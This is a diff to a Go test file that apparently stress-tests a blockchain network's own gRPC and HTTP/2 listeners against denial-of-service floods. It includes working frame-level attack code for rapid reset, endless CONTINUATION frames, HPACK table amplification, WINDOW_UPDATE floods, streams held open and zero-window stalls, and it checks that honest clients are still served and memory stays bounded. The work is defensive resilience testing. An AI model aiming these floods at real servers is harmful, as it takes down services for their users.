@@ -4,11 +4,14 @@ package attacks
 
 import (
 	"bytes"
+	"context"
 	"crypto/tls"
 	"errors"
 	"io"
 	"net"
+	"slices"
 	"strconv"
+	"strings"
 	"testing"
 	"time"
 
@@ -32,42 +35,93 @@ func (s *stranger) session(raw net.Conn, protocol string) (net.Conn, error) {
 	return conn, conn.Handshake()
 }
 
-// request is the field block of a call that no node knows.
-func request() []byte {
-	var block bytes.Buffer
-	e := hpack.NewEncoder(&block)
+// calls are those of a server that a stranger uses: one that waits for his message, and one that answers it whatever it is.
+type calls struct{ waits, answers string }
+
+const (
+	noCall   = "/attacks.None/None" // no node knows it
+	submit   = "/orderer.AtomicBroadcast/Broadcast"
+	register = "/protos.ChaincodeSupport/Register"
+)
+
+var peerCalls = calls{"/protos.Endorser/ProcessProposal", "/protos.Deliver/Deliver"}
+
+// fields are those of a call. They stay out of the table of the encoder, so that other fields keep their places in it.
+func fields(e *hpack.Encoder, path string) {
 	for _, field := range [][2]string{
-		{":method", "POST"}, {":scheme", "https"}, {":path", "/attacks.None/None"}, {":authority", "node"},
+		{":method", "POST"}, {":scheme", "https"}, {":path", path}, {":authority", "node"},
 		{"content-type", "application/grpc"}, {"te", "trailers"},
 	} {
-		if err := e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
-			panic(err)
+		if err := e.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}); err != nil {
+			panic(err) // it writes into a buffer
 		}
 	}
+}
+
+// request is the field block of a call.
+func request(path string) []byte {
+	var block bytes.Buffer
+	fields(hpack.NewEncoder(&block), path)
 	return block.Bytes()
+}
+
+// http2 completes a handshake and the opening of HTTP/2.
+func (s *stranger) http2(raw net.Conn, settings ...http2.Setting) (net.Conn, *http2.Framer, error) {
+	conn, err := s.session(raw, "h2")
+	if err != nil {
+		return nil, nil, err
+	}
+	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+		return nil, nil, err
+	}
+	f := http2.NewFramer(conn, nil)
+	return conn, f, f.WriteSettings(settings...)
 }
 
 // flood sends frames of HTTP/2 behind a complete handshake until the node has had enough. A stranger who is deaf reads no answer.
 func (s *stranger) flood(raw net.Conn, deaf bool, send func(f *http2.Framer, stream uint32) error) {
-	conn, err := s.session(raw, "h2")
+	conn, f, err := s.http2(raw)
 	if err != nil {
-		return
-	}
-	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
 		return
 	}
 	if !deaf {
 		go io.Copy(io.Discard, conn)
-	}
-	f := http2.NewFramer(conn, nil)
-	if f.WriteSettings() != nil {
-		return
 	}
 	for stream := uint32(1); send(f, stream) == nil; stream += 2 {
 	}
 	if !deaf {
 		time.Sleep(10 * time.Millisecond) // the node has ended it: no haste to come again
 	}
+}
+
+// held is how many calls a stranger opens on one connection and keeps.
+const held = 1000
+
+// hold opens calls, with send for each, and keeps them until somebody ends the connection.
+func (s *stranger) hold(raw net.Conn, send func(f *http2.Framer, stream uint32) error, settings ...http2.Setting) {
+	conn, f, err := s.http2(raw, settings...)
+	if err != nil {
+		return
+	}
+	ended := make(chan struct{})
+	go func() {
+		awaitEnd(conn)
+		close(ended)
+	}()
+	for i := range uint32(held) {
+		if send(f, 2*i+1) != nil {
+			return
+		}
+	}
+	<-ended
+}
+
+// open begins a call and sends data on it, if there is any.
+func open(f *http2.Framer, stream uint32, block, data []byte) error {
+	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true}); err != nil || data == nil {
+		return err
+	}
+	return f.WriteData(stream, false, data)
 }
 
 // block is the part of a field block that never ends.
@@ -77,9 +131,9 @@ var block = bytes.Repeat([]byte{0x82}, 8<<10) // :method GET, over and over
 var floods = []attack{
 	// CVE-2023-44487
 	{"rapid reset", func(s *stranger, conn net.Conn) {
-		fields := request()
+		call := request(s.waits)
 		s.flood(conn, false, func(f *http2.Framer, stream uint32) error {
-			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: fields, EndHeaders: true}); err != nil {
+			if err := open(f, stream, call, nil); err != nil {
 				return err
 			}
 			return f.WriteRSTStream(stream, http2.ErrCodeCancel)
@@ -89,9 +143,24 @@ var floods = []attack{
 	{"CONTINUATION without end", func(s *stranger, conn net.Conn) {
 		s.flood(conn, false, func(f *http2.Framer, stream uint32) error {
 			if stream == 1 {
-				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request()})
+				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: request(noCall)})
 			}
 			return f.WriteContinuation(1, false, block)
+		})
+	}},
+	// A field of a few KiB that stands in the table of the connection takes one byte each further time.
+	{"fields that unpack", func(s *stranger, conn net.Conn) {
+		var block bytes.Buffer
+		e := hpack.NewEncoder(&block)
+		s.hold(conn, func(f *http2.Framer, stream uint32) error {
+			block.Reset()
+			fields(e, s.waits)
+			for range 4000 {
+				if err := e.WriteField(hpack.HeaderField{Name: "x-bin", Value: strings.Repeat("A", 4000)}); err != nil {
+					return err
+				}
+			}
+			return open(f, stream, block.Bytes(), nil)
 		})
 	}},
 	// CVE-2019-9515 and CVE-2019-9512
@@ -101,11 +170,34 @@ var floods = []attack{
 	{"PING without end", func(s *stranger, conn net.Conn) {
 		s.flood(conn, true, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) })
 	}},
-	{"streams without end", func(s *stranger, conn net.Conn) {
-		fields := request()
-		s.flood(conn, true, func(f *http2.Framer, stream uint32) error {
-			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: fields, EndHeaders: true})
+	{"WINDOW_UPDATE without end", func(s *stranger, conn net.Conn) {
+		s.flood(conn, false, func(f *http2.Framer, stream uint32) error {
+			if stream == 1 {
+				return open(f, stream, request(s.waits), nil)
+			}
+			return f.WriteWindowUpdate(1, 1)
 		})
+	}},
+	{"calls without end", func(s *stranger, conn net.Conn) {
+		call := request(noCall)
+		s.flood(conn, true, func(f *http2.Framer, stream uint32) error { return open(f, stream, call, nil) })
+	}},
+	{"calls that send nothing", func(s *stranger, conn net.Conn) {
+		call := request(s.waits)
+		s.hold(conn, func(f *http2.Framer, stream uint32) error { return open(f, stream, call, nil) })
+	}},
+	{"messages that are announced", func(s *stranger, conn net.Conn) {
+		call := request(s.waits)
+		s.hold(conn, func(f *http2.Framer, stream uint32) error {
+			return open(f, stream, call, []byte{0, 5, 0, 0, 0, 1}) // 80 MiB, of which the first byte comes
+		})
+	}},
+	// CVE-2019-9517
+	{"answers that nobody takes", func(s *stranger, conn net.Conn) {
+		call := request(s.answers)
+		s.hold(conn, func(f *http2.Framer, stream uint32) error {
+			return open(f, stream, call, []byte{0, 0, 0, 0, 1, 0xff})
+		}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
 	}},
 }
 
@@ -145,45 +237,83 @@ var webs = []attack{
 	}},
 }
 
-// TestStrangersAtOtherListeners runs the attacks against the listeners beside the one for gRPC: operations, admin, and that for
-// chaincode which the peer launched. They go on to answer, and so does the node's own, which grows by no more than its share.
-func TestStrangersAtOtherListeners(t *testing.T) {
+// TestFloods runs the floods against the gRPC listeners of a peer and an orderer, behind handshakes of both protocols, and all attacks
+// against the listeners beside them: operations, admin, and that for chaincode which the peer launched. They go on to answer, and so
+// does the node's own, which grows by no more than its share and is its former self afterwards.
+func TestFloods(t *testing.T) {
 	n, ctx := start(t, network.Options{Mode: network.ModeDual, Orderers: 1, Orgs: 1, Peers: 1})
 	peer, orderer := n.Nodes(network.Peer)[0], n.Nodes(network.Orderer)[0]
+	both := []string{network.ModeTLS, network.ModeGM}
+	all := func(more []attack) []attack { return append(slices.Clone(attacks), more...) }
 	for _, c := range []struct {
-		name  string
-		node  network.Node
-		port  int
-		modes []string
-		more  []attack
+		name    string
+		node    network.Node
+		port    int
+		modes   []string
+		attacks []attack
+		calls   calls
 	}{
-		{"operations", peer, peer.Operations, []string{network.ModeTLS, network.ModeGM}, webs},
-		{"admin", orderer, orderer.Admin, []string{network.ModeTLS, network.ModeGM}, webs},
-		{"chaincode", peer, peer.CCPort, []string{network.ModeTLS}, floods},
+		{"peer", peer, peer.Port, both, floods, peerCalls},
+		{"orderer", orderer, orderer.Port, both, floods, calls{submit, submit}},
+		{"operations", peer, peer.Operations, both, all(webs), calls{}},
+		{"admin", orderer, orderer.Admin, both, all(webs), calls{}},
+		{"chaincode", peer, peer.CCPort, []string{network.ModeTLS}, all(floods), calls{register, register}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
 			host, _, err := net.SplitHostPort(c.node.Local())
 			require.NoError(t, err)
 			target := net.JoinHostPort(host, strconv.Itoa(c.port))
+			calm := goroutines(ctx, t, n, c.node)
 			before, _ := memory(t, n.PID(c.node.Name))
 			forgetPeak(t, n.PID(c.node.Name))
 			for _, mode := range c.modes {
 				s, grpc := newStranger(t, target, mode, 6), newHonest(t, n, c.node, mode)
-				for _, a := range append(append([]attack{}, attacks...), c.more...) {
-					end := s.besiege(a, 40, false)
-					errs := []error{answers(target)}
-					_, err := grpc.connect(net.IPv4(127, 0, 0, 1))
+				s.calls = c.calls
+				for _, a := range c.attacks {
+					end := s.besiege(a, 6, false)
+					if c.calls != (calls{}) {
+						time.Sleep(floodTime)
+					}
+					err := served(func() error {
+						_, err := grpc.connect(net.IPv4(127, 0, 0, 1))
+						return errors.Join(answers(target), err)
+					})
 					require.Positive(t, end(), a.name)
-					require.NoError(t, errors.Join(append(errs, err)...), "%s by %s", a.name, mode)
+					require.NoError(t, err, "%s by %s", a.name, mode)
+					_, peak := memory(t, n.PID(c.node.Name))
+					t.Logf("%s by %s: %d MiB at first, %d MiB at most", a.name, mode, before, peak)
+					require.Less(t, peak, before+floodsMayCost, a.name)
 				}
 			}
-			after, peak := memory(t, n.PID(c.node.Name))
-			t.Logf("%d MiB before, %d MiB after, %d MiB at most", before, after, peak)
-			require.Less(t, peak, before+strangersMayCost)
-			_, err = n.Operations(ctx, c.node, "GET", "/healthz", nil)
-			require.NoError(t, err)
+			require.Eventually(t, func() bool { return goroutines(ctx, t, n, c.node) < calm+100 }, time.Minute, time.Second, "%d at first", calm)
 		})
 	}
+}
+
+// floodTime is how long a flood goes on before honest clients come, and floodsMayCost what all of them together may add to a node's
+// memory, in MiB: as many calls as a listener serves, which wait for the log, and as much garbage.
+const (
+	floodTime     = 300 * time.Millisecond
+	floodsMayCost = 800
+)
+
+// served reports whether an honest client is served, who tries again for a while as such clients do.
+func served(try func() error) (err error) {
+	for began := time.Now(); time.Since(began) < patience; {
+		if err = try(); err == nil {
+			return nil
+		}
+	}
+	return err
+}
+
+// goroutines returns how many a node has.
+func goroutines(ctx context.Context, t *testing.T, n *network.Network, node network.Node) int {
+	t.Helper()
+	value, found, err := n.Metric(ctx, node, "go_goroutines")
+	require.NoError(t, err)
+	require.True(t, found)
+	return int(value)
 }
 
 // answers reports whether a listener serves somebody from another address: it sends its whole flight of TLS 1.3. What it says to a
